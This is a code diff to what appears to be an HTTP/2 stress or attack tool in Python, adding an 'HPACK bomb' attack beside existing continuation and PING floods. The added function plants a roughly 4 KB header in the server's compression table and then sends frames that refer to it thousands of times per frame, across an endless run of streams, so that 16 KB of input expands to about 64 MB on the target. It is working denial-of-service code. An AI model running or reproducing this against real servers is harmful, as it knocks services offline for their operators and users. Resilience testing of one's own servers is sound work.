@@ -29,6 +29,9 @@ FRAMES = 500
 CONNECTIONS = 4
 MAX_STREAM = 2**31 - 1
 CANCEL = 8
+MAX_FRAME_BYTES = 16_384
+FIRST_DYNAMIC_INDEX = 62
+"""Index of the entry that was added last to the table of compressed headers."""
 
 
 def header_block(target: Target, path: str, *extra: tuple[str, str]) -> bytes:
@@ -107,6 +110,23 @@ async def continuation_flood(run: AttackRun) -> None:
     literal = Encoder().encode([NeverIndexedHeaderTuple("x-a", "b" * 100)])
     data = ContinuationFrame(1, data=literal * 100).serialize() * 10
     await _flood(run, lambda: itertools.chain([begin], itertools.repeat(data)))
+
+
+@attack("headers that refer 16,000 times to an entry of 4 KB (HPACK bomb)")
+async def header_bomb(run: AttackRun) -> None:
+    """Let 16 KB of compressed headers become 64 MB."""
+    entry = Encoder().encode([("x-a", "b" * 3900)])
+    last_entry = bytes([0x80 | FIRST_DYNAMIC_INDEX])
+    begin = headers_frame(1, header_block(run.target, HEALTH + "Check") + entry, "END_HEADERS", "END_STREAM")
+    block = header_block(run.target, HEALTH + "Check")
+    bomb = block + last_entry * (MAX_FRAME_BYTES - len(block))
+
+    def writes() -> Iterator[bytes]:
+        yield begin
+        for stream in range(3, MAX_STREAM, 2):
+            yield headers_frame(stream, bomb, "END_HEADERS", "END_STREAM")
+
+    await _flood(run, writes)
 
 
 @attack("PING frames", before="held")
